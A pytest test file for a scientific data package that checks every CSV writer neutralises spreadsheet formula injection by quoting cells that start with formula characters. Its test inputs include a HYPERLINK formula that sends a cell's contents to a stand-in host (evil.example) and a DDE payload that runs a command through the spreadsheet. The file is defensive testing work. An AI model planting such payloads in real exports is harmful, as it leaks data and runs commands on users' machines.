"""No CSV file microcyl writes holds a cell a spreadsheet evaluates (issue 35, item 8): a
batch's summary.csv (a table named =HYPERLINK(...), unknown rows of an old summary.json), a
report's data CSV, `plot table --data`, a plan file and a table's metadata, each read back
with the csv module. A cell beginning with =, +, -, @, a tab or a carriage return is either
a number or written with a single quote in front (gonio/csvcells.py)."""

import csv
import json
from pathlib import Path

import numpy as np
import pytest

import gonio
from analysis.batch.summary import BatchSummary
from analysis.views.table import write_table_data
from gonio.csvcells import comment_json, comment_text, text_cell
from gonio.table import Table
from reports.report.page import Page

HYPERLINK = '=HYPERLINK("http://evil.example/?"&A1,"click")'
DANGEROUS = tuple("=+-@\t\r")          # written out here, not taken from the code


def cells(path):
    with open(path, newline="", encoding="utf-8") as fh:
        return [c for row in csv.reader(fh) for c in row]


def evaluated(path):
    """The cells of ``path`` a spreadsheet would evaluate: beginning with a formula character
    and not a number."""
    out = []
    for c in cells(path):
        if c.startswith(DANGEROUS):
            try:
                float(c)
            except ValueError:
                out.append(c)
    return out


@pytest.mark.parametrize("text", [HYPERLINK, "+1+cmd", "-2+3", "@SUM(A1)", "\t=1", "\r=1"])
def test_a_formula_text_gets_a_quote_in_front(text):
    assert text_cell(text) == "'" + text


@pytest.mark.parametrize("value", ["-0.25", "-1e-3", "+5", "-inf", "nan", -2.5, 3, None,
                                   "silk", "a=b", ""])
def test_numbers_and_other_text_stay_as_they_are(value):
    assert text_cell(value) is value


def test_summary_csv_quotes_a_formula_name_and_unknown_rows(tmp_path):
    doc = {"schema": "microcyl-batch", "version": 1, "tables": [
        {"name": "=HYPERLINK(1)", "status": "error", "error": "@SUM(1) went wrong",
         "steps": 0, "wall_s": 0.5, "preset": "-cmd", "kd1_median": -0.25},
        {"name": "t1", "status": "converged", "steps": 40, "wall_s": 1.0,
         "=cmd|' /C calc'!A0": "+evil", "notes": ["=a", -1], "elpd": -812.5}]}
    (tmp_path / "summary.json").write_text(json.dumps(doc))
    BatchSummary(tmp_path).write()
    assert evaluated(tmp_path / "summary.csv") == []
    with open(tmp_path / "summary.csv", newline="") as fh:
        rows = list(csv.DictReader(fh))
    assert rows[0]["name"] == "'=HYPERLINK(1)"
    assert rows[0]["error"] == "'@SUM(1) went wrong" and rows[0]["preset"] == "'-cmd"
    assert rows[0]["kd1_median"] == "-0.25" and rows[1]["elpd"] == "-812.5"   # numbers
    assert rows[1]["'=cmd|' /C calc'!A0"] == "'+evil"
    assert json.loads(rows[1]["notes"]) == ["=a", -1]
    # summary.json keeps the names as they were (the folders are named by them)
    assert json.loads((tmp_path / "summary.json").read_text())["tables"][0]["name"] == \
        "=HYPERLINK(1)"


def test_report_data_and_plot_table_data_quote_formula_text(tmp_path):
    (tmp_path / "page").mkdir()
    p = Page(tmp_path, "page", None, {})
    p.csv("albedo.csv", ["fabric", "=albedo"], [[HYPERLINK, -0.5], ["silk", 0.25]])
    assert evaluated(tmp_path / "page" / "albedo.csv") == []
    assert cells(tmp_path / "page" / "albedo.csv") == ["fabric", "'=albedo", "'" + HYPERLINK,
                                                      "-0.5", "silk", "0.25"]
    out = write_table_data(tmp_path / "d.csv", [("@fit", 30, 0, 45, -180, -0.1)])
    assert cells(out)[6:] == ["'@fit", "30.0", "0.0", "45.0", "-180.0", "-0.1"]


def test_plan_file_header_and_text_columns(tmp_path):
    path = gonio.write_pairs_csv(tmp_path / "plan.csv", [[30, 0, 30, -170]],
                                 {"fabric": "a,=HYPERLINK(1)", "free": "gamma1,kd1"},
                                 columns={"label": np.array(["=1+1"])}, order=False)
    assert evaluated(path) == []
    assert "'=1+1" in cells(path) and "-170" in ",".join(cells(path))


def test_table_metadata_reads_back_the_same(tmp_path):
    meta = {"source": f"scan,{HYPERLINK}", "notes": ["a,-b", -2, "c,+d,@e"]}
    t = Table([[0, 0, 1.0]], [[0.6, 0, 0.8]], [0.25], meta=meta)
    gonio.write(t, tmp_path / "t.csv")
    assert evaluated(tmp_path / "t.csv") == []
    back = gonio.read(tmp_path / "t.csv")
    assert back.meta["source"] == meta["source"] and back.meta["notes"] == meta["notes"]


def test_comment_helpers():
    assert json.loads(comment_json(json.dumps("x,=1,-2"))) == "x,=1,-2"
    assert comment_json(json.dumps([1, -2])) == "[1, -2]"
    assert comment_text("a,@b,-3") == "a,'@b,-3"


def test_every_csv_writer_goes_through_csvcells():
    """A module that makes a csv writer imports gonio.csvcells: a new CSV writer is not
    forgotten."""
    root = Path(__file__).resolve().parents[1]
    missed = []
    for pkg in ("brdf", "gonio", "analysis", "reports"):
        for path in (root / pkg).rglob("*.py"):
            text = path.read_text(encoding="utf-8")
            if ("csv.writer(" in text or "csv.DictWriter(" in text) and \
                    "gonio.csvcells import" not in text:
                missed.append(str(path.relative_to(root)))
    assert missed == []
